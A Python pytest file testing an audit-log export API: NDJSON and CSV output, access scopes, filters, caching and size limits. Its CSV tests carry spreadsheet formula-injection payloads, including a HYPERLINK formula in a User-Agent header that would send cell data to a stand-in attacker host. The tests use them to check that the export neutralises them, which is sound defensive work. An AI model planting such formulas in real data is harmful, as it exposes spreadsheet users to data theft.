import json
from typing import Any

import pytest

from chalicelib.features.audit.exports.logic import inline_export
from chalicelib.kernel.execution import envelope
from tests.harness import cloud, logs
from tests.harness.api import Api
from tests.harness.callers import Person
from tests.harness.clock import Clock
from tests.harness.exports import exported, fill, rows
from tests.harness.invitations import invite
from tests.harness.logs import log_of
from tests.harness.organizations import Founded, found, joins, make_key
from tests.harness.workers import Workers

COLUMNS = (
    '"sequence","id","occurredAt","type","actorType","actorId","actorName","targetType","targetId","targetName",'
    '"operationId","requestId","ipAddress","userAgent","changes","data","leafHash","treeSize","erased"'
)


def entries(api: Api, organization: Founded, **query: Any) -> list[dict[str, Any]]:
    """The entries of an export in NDJSON."""
    answer = exported(api, organization, **query)
    assert answer.status == 200, answer.text
    assert answer.text == "" or answer.text.endswith("\n")
    return [json.loads(line) for line in answer.text.splitlines()]


class TestExportAuditLog:
    def test_it_is_a_file_with_a_line_for_each_entry(self, api: Api, ten: Founded, clock: Clock) -> None:
        moment = clock.freeze()
        answer = exported(api, ten)
        assert answer.headers["Content-Type"] == "application/x-ndjson"
        name = f"{ten.record['slug']}-audit-log-{moment[:10]}.ndjson"
        assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert answer.headers["Cache-Control"] == "no-store"
        assert [json.loads(line) for line in answer.text.splitlines()] == log_of(api, ten)[::-1]

    def test_what_has_no_sequence_yet_stands_last(self, api: Api, ten: Founded) -> None:
        for name in ("First", "Second"):
            api.patch(ten.path, as_=ten.owner, json={"name": name})
        found_ = entries(api, ten)
        assert [entry["sequence"] for entry in found_] == [*range(1, 11), None, None]
        assert [entry["data"]["name"] for entry in found_[-2:]] == ["First", "Second"]

    def test_it_stands_in_order_of_the_sequence_although_a_clock_is_off(
        self, api: Api, ada: Person, clock: Clock, workers: Workers
    ) -> None:
        organization, other = found(api, ada, name="Founded just now"), found(api, ada, name="Other")
        clock.shift(seconds=60)
        invite(api, organization, "first@example.org")
        workers.deliver()
        clock.shift(seconds=-90)
        invite(api, organization, "second@example.org")
        workers.deliver()
        assert [entry["sequence"] for entry in log_of(api, organization)] == [2, 1, 3]
        assert [entry["sequence"] for entry in entries(api, organization)] == [1, 2, 3]
        assert len(entries(api, other)) == 1

    def test_long_entries_are_whole(self, api: Api, ada: Person, workers: Workers) -> None:
        organization = found(api, ada, companyAddress="é" * 3000)
        assert entries(api, organization) == log_of(api, organization)
        workers.deliver()
        assert entries(api, organization) == log_of(api, organization)

    def test_admins_and_keys_with_the_scope_may(
        self, api: Api, organization: Founded, grace: Person, edith: Person, mary: Person, stranger: Person
    ) -> None:
        assert exported(api, organization, as_=grace).status == 200
        for person in (edith, mary):
            assert exported(api, organization, as_=person).code == "403 insufficient_role"
        assert exported(api, organization, as_=stranger).code == "404 not_found"
        assert exported(api, organization, as_=make_key(api, organization, "audit-log:read")).status == 200
        for scope in ("read", "write", "members:read"):
            key = make_key(api, organization, scope)
            assert exported(api, organization, as_=key).code == "403 insufficient_scope"

    def test_it_is_no_entry_itself(self, api: Api, organization: Founded) -> None:
        before = log_of(api, organization)
        exported(api, organization)
        assert log_of(api, organization) == before

    def test_what_has_not_changed_is_not_sent_again(self, api: Api, ten: Founded) -> None:
        tag = exported(api, ten).etag
        path, headers = f"{ten.path}/audit-log/export", {"If-None-Match": tag}
        assert api.get(path, as_=ten.owner, headers=headers).status == 304
        api.patch(ten.path, as_=ten.owner, json={"name": "Another"})
        assert api.get(path, as_=ten.owner, headers=headers).status == 200

    @pytest.mark.parametrize("form", ["xml", "", "NDJSON", "ndjson.gz"])
    def test_another_format_is_refused(self, api: Api, organization: Founded, form: str) -> None:
        refused = exported(api, organization, format=form)
        assert refused.code == "422 validation_failed"
        assert set(refused.faults) == {"query/format"}

    def test_what_was_altered_beyond_showing_is_left_out(self, api: Api, ten: Founded) -> None:
        logs.alter(logs.entry(ten, 3), body=b"no json")
        logs.alter(logs.entry(ten, 5), body=logs.entry(ten, 5)["body"][:-1] + b"\n}")
        item = logs.entry(ten, 7)
        cloud.put({name: value for name, value in item.items() if name != "body"})
        for form in ("ndjson", "csv"):
            answer = exported(api, ten, format=form)
            assert len(answer.text.splitlines()) == 7 + (form == "csv")


class TestFilters:
    def test_they_are_those_of_the_list(self, api: Api, organization: Founded, grace: Person, mary: Person) -> None:
        for n in range(3):
            api.patch(organization.path, as_=grace, json={"name": f"Name {n}"})
            api.patch(f"{organization.path}/members/{mary.id}", as_=grace, json={"role": ("editor", "member")[n % 2]})
        moments = sorted(entry["occurredAt"] for entry in log_of(api, organization))
        queries: list[dict[str, Any]] = [
            {"type": "organization.updated"},
            {"type": "organization.member.*"},
            {"actorId": grace.id},
            {"targetId": organization.id},
            {"targetId": organization.id, "actorId": grace.id.upper()},
            {"from": moments[2]},
            {"to": moments[-3]},
            {"from": moments[2], "to": moments[-3]},
            {"type": "organization.*", "actorId": grace.id, "from": moments[4], "to": moments[-2]},
            {"from": moments[2], "to": moments[2]},
            {"actorId": "nobody"},
        ]
        for query in queries:
            assert entries(api, organization, **query) == log_of(api, organization, **query)[::-1], query

    def test_a_page_of_the_list_is_none(self, api: Api, ten: Founded) -> None:
        assert len(entries(api, ten, limit=1)) == 10

    @pytest.mark.parametrize("query", [{"type": "*.member"}, {"from": "yesterday"}, {"to": "2026-11-20"}])
    def test_one_that_is_none_is_refused(self, api: Api, organization: Founded, query: dict[str, Any]) -> None:
        refused = exported(api, organization, **query)
        assert refused.code == "422 validation_failed"
        assert set(refused.faults) == {f"query/{name}" for name in query}

    def test_a_beginning_after_the_end_is_refused(self, api: Api, organization: Founded) -> None:
        query: dict[str, Any] = {"from": "2026-11-20T09:30:00Z", "to": "2026-11-19T09:30:00Z"}
        refused = exported(api, organization, **query)
        assert (refused.code, refused.faults) == ("422 validation_failed", {"query/from": "out_of_range"})

    def test_an_entry_of_no_other_log_passes(self, api: Api, ada: Person, stranger: Person) -> None:
        theirs, own = found(api, ada), found(api, stranger)
        for value in (theirs.id, f"x#A#{theirs.id}", "{log_id}"):
            assert entries(api, own, targetId=value) == []


class TestAsCsv:
    def test_it_says_what_the_lines_of_ndjson_say(self, api: Api, ten: Founded, grace: Person) -> None:
        joins(ten, grace, "admin")
        answer = exported(api, ten, format="csv")
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert answer.headers["Content-Disposition"].endswith('.csv"')
        assert answer.text.splitlines()[0] == COLUMNS
        table = rows(answer.text)
        for row, entry in zip(table, entries(api, ten), strict=True):
            assert row["sequence"] == str(entry["sequence"] or "")
            assert (row["id"], row["occurredAt"], row["type"]) == (entry["id"], entry["occurredAt"], entry["type"])
            for name in ("type", "id", "name"):
                assert row[f"actor{name.title()}"] == entry["actor"][name]
                assert row[f"target{name.title()}"] == entry["target"][name]
            for name in ("operationId", "requestId", "ipAddress", "userAgent"):
                assert row[name] == (entry["context"][name] or "")
            assert json.loads(row["changes"]) == entry["changes"]
            assert json.loads(row["data"]) == entry["data"]
            integrity = entry["integrity"] or {"leafHash": "", "treeSize": ""}
            assert (row["leafHash"], row["treeSize"]) == (integrity["leafHash"], str(integrity["treeSize"]))
            assert row["erased"] == ""

    @pytest.mark.parametrize(
        "text", ["=1+1", "+1", "-1", "@A1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", '  "=1+1', "\u200b=1"]
    )
    def test_what_a_spreadsheet_would_take_for_a_formula_is_none(self, api: Api, ada: Person, text: str) -> None:
        organization = found(api, ada, name=text, slug="engines")
        (row,) = rows(exported(api, organization, format="csv").text)
        assert row["targetName"] == f"'{text.strip()}"

    @pytest.mark.parametrize("text", ["a;=1+1", "a|+1", 'a;"-1', "a ; @A1"])
    def test_nor_is_what_stands_behind_a_separator_of_another_kind(self, api: Api, ada: Person, text: str) -> None:
        organization = found(api, ada, name=text, slug="engines")
        line = exported(api, organization, format="csv").text.splitlines()[1]
        behind = [part.lstrip(' "') for part in line.replace("|", ";").split(";")[1:]]
        assert behind
        assert not any(part.startswith(("=", "+", "-", "@")) for part in behind)

    def test_a_user_agent_is_no_formula_either(self, api: Api, organization: Founded) -> None:
        agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        api.patch(organization.path, as_=organization.owner, json={"name": "B"}, headers={"User-Agent": agent})
        assert rows(exported(api, organization, format="csv").text)[-1]["userAgent"] == f"'{agent}"

    def test_an_empty_one_still_has_its_columns(self, api: Api, organization: Founded) -> None:
        assert exported(api, organization, format="csv", actorId="nobody").text == f"{COLUMNS}\r\n"


class TestWhatIsTooLarge:
    def refused(self, api: Api, organization: Founded, why: str, **query: Any) -> None:
        refused = exported(api, organization, **query)
        assert refused.code == "409 export_too_large"
        assert why in refused.json["detail"]
        assert f"POST {organization.path}/audit-log/export-async" in refused.json["detail"]

    def test_is_what_the_contract_says(self) -> None:
        assert (inline_export.MAX_ENTRIES, inline_export.MAX_BYTES) == (10_000, 5_000_000)

    def test_more_entries_than_fit_are_refused(self, api: Api, ten: Founded, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 10)
        assert len(entries(api, ten)) == 10
        api.patch(ten.path, as_=ten.owner, json={"name": "One more"})
        self.refused(api, ten, "more than 10 entries")
        assert len(entries(api, ten, type="organization.updated")) == 10

    @pytest.mark.parametrize("letters", [100, 6_000])
    def test_more_bytes_than_fit_are_refused(
        self, api: Api, ada: Person, monkeypatch: pytest.MonkeyPatch, letters: int
    ) -> None:
        organization = found(api, ada)
        fill(organization.id, 30, letters)
        size = len(exported(api, organization).text.encode())
        monkeypatch.setattr(inline_export, "MAX_BYTES", size)
        assert len(entries(api, organization)) == 31
        for most in (size - 1, size // 3):
            monkeypatch.setattr(inline_export, "MAX_BYTES", most)
            self.refused(api, organization, f"more than {most:,} bytes")

    def test_it_holds_less_if_its_letters_take_more_room_on_the_way(
        self, api: Api, ada: Person, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        organization = found(api, ada, name="🚂" * 200, slug="trains")
        text = exported(api, organization).text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)) + 10_000)
        assert exported(api, organization).text == text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)))
        self.refused(api, organization, "than a response can be")

    def test_a_filter_that_hardly_anything_passes_is_not_looked_for_without_end(
        self, api: Api, ada: Person, grace: Person, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        organization = found(api, ada)
        joins(organization, grace, "admin")
        fill(organization.id, 250, 6_000)
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 99)  # By pages of so many.
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 3)
        assert len(entries(api, organization, type="organization.invitation.*")) == 1
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 2)
        self.refused(api, organization, "too long to be searched", type="organization.invitation.*")
        assert len(entries(api, organization, type="organization.invitation.accepted")) == 1

    def test_it_asks_for_no_more_once_it_knows(self, api: Api, ada: Person, monkeypatch: pytest.MonkeyPatch) -> None:
        organization = found(api, ada)
        fill(organization.id, 400, 6_000)
        monkeypatch.setattr(inline_export, "MAX_BYTES", 50_000)
        refused = exported(api, organization)
        assert refused.calls.names == ["dynamodb:BatchGetItem", "dynamodb:Query"]
